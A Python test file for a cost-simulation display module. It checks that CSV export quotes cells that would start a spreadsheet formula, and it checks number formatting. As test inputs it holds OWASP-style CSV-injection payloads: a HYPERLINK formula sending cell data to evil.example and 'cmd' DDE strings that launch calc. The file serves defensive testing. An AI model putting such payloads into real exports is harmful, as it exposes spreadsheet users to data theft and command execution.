"""The display rules: one rounding per kind of figure, and CSV cells that cannot run."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from costsim.domain.display import csv_cell, hours, number, percent, usd_change

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_text_that_would_start_a_formula_is_quoted() -> None:
    # OWASP's CSV-injection examples: each becomes text a spreadsheet shows, not runs
    assert csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")') == (
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")')
    assert csv_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert csv_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert csv_cell("-1+2") == "'-1+2"  # arithmetic, not a number
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("--tp: must be a whole number") == "'--tp: must be a whole number"


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    for text in ("-531.11", "-1e-05", "+3", "-0.5", "-.5", "-inf", "12", "all-on-demand",
                 "a, \"quoted\" name", "", "'=already text"):
        assert csv_cell(text) == text


@given(st.text(max_size=12))
def test_no_cell_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    cell = csv_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # the only cells left starting so are numbers


def test_shares_hours_and_changes_read_one_way() -> None:
    assert percent(0.145) == "14.5%"
    assert percent(0.015) == "1.5%"
    assert hours(99.994) == "99.99"
    assert hours(1234.4) == "1,234"
    assert usd_change(1234.0, 40_000.0) == "+$1,234.00, +3.1%"
    assert usd_change(5.0, 0.0) == "+$5.00"
    assert number(0.9957962499999999) == "0.995796"
    assert number(2e12) == "2,000,000,000,000"
    assert number(12) == "12"
    assert number(-12.5) == "-12.5"
    assert number(1234567.8) == "1,234,568"
    assert number(1.5e-7) == "1.5e-07"
